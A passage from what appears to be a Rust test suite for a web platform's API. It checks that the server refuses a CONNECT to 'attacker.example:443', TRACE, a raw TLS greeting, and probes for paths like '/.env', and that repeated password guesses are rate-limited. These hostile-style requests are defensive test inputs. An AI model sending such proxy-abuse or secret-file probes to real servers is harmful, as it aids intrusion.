            ("TRACE", format!("TRACE /healthz HTTP/1.1\r\n{host}\r\n")),
            ("CONNECT", format!("CONNECT attacker.example:443 HTTP/1.1\r\n{host}\r\n")),
            ("a TLS greeting", "\u{16}\u{3}\u{1}\u{2}\u{0}\u{1}\r\n\r\n".into()),
        ] {
            let status = raw_status(&address, request.as_bytes()).await;
            assert!(matches!(status, 0 | 400..=499), "{what}: {status}");
            assert_eq!(raw_status(&address, format!("GET /healthz HTTP/1.1\r\n{host}\r\n").as_bytes()).await, 200, "after {what}");
        }
    }

    /// T-14: a path without such a method says so in the envelope, and a path that is none is not found.
    async fn wrong_methods_are_refused(p: TestPlatform) {
        for (method, path) in [("DELETE", "/api/v1/tenants"), ("PUT", "/api/v1/users"), ("POST", "/healthz"), ("PATCH", "/api/v1/auth/login"), ("GET", "/api/v1/auth/login")] {
            p.admin.send(method, path, None).await.expect_error(405, "method_not_allowed");
        }
        for path in ["/api", "/api/v1", "/api/v2/tenants", "/api/v1/tenants/", "/API/v1/tenants", "/api/v1/tenants.json", "/.env", "/api//v1/tenants", "/api/v1/%74enants%2f"] {
            check_refused(&p.admin.get(path).await, 404, path);
        }
    }
}

/// An id of the platform's own making: 32 hexadecimal digits, and not the caller's.
#[track_caller]
fn check_own_id(id: &str, sent: &str) {
    assert_ne!(id, sent);
    assert!(
        id.len() == 32 && id.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f')),
        "{sent:?} became {id:?}"
    );
}

/// K-01: after a few wrong passwords an account must wait, whoever asks and whatever they know; others need not.
async fn guessing_is_slow(kind: Database) {
    let p = TestPlatform::start_with(kind, "wrong_passwords = 3").await;
    p.person("bob").await;
    let login = async |email: &str, password: &str| {
        p.anonymous().call(Route::Login, &[], Some(&json!({"email": email, "password": password}))).await
    };
    for email in [p.admin_email.as_str(), "nobody@example.org"] {
        // Another spelling of the address is the same account.
        login(email, "wrong one").await.expect_error(401, "invalid_credentials");
        login(&email.to_uppercase(), "wrong two").await.expect_error(401, "invalid_credentials");
        login(email, "").await.expect_error(401, "invalid_credentials");
        for _ in 0..3 {
            let waiting = login(email, &p.admin_password).await.expect_error(429, "too_many_requests");
            let seconds: i64 = waiting.header("retry-after").expect("how long").parse().expect("seconds");
            assert!((1..=200).contains(&seconds), "{seconds}");
            assert_eq!(waiting.body["error"]["params"]["retry_after_seconds"], seconds);
        }
    }
    login("bob@example.org", "correct horse battery").await.expect(200);
    p.admin.call(Route::Whoami, &[], None).await.expect(200);
    let waiting = login(&p.admin_email, &p.admin_password).await.expect(429);
    p.clock.advance_seconds(waiting.header("retry-after").expect("how long").parse().expect("seconds"));
    login(&p.admin_email, &p.admin_password).await.expect(200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guessing_is_slow_on_sqlite() {
    guessing_is_slow(Database::Sqlite).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guessing_is_slow_on_postgres() {
    guessing_is_slow(Database::Postgres).await;
}

/// K-01: guesses at a password through the change of one's own password count too.
async fn guessing_the_current_password_is_slow(kind: Database) {
    let p = TestPlatform::start_with(kind, "wrong_passwords = 3").await;
    let (bob, _) = p.person("bob").await;
    let change = async |current: &str| {
        let body = json!({"current_password": current, "new_password": "another horse battery"});
        bob.call(Route::PasswordChange, &[], Some(&body)).await
    };
    for _ in 0..3 {
        let wrong = change("wrong").await.expect(400);
        assert_eq!(wrong.body["error"]["fields"][0]["code"], "wrong_password", "{}", wrong.text);
    }
    change("correct horse battery").await.expect_error(429, "too_many_requests");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guessing_the_current_password_is_slow_on_sqlite() {
    guessing_the_current_password_is_slow(Database::Sqlite).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guessing_the_current_password_is_slow_on_postgres() {
    guessing_the_current_password_is_slow(Database::Postgres).await;
}
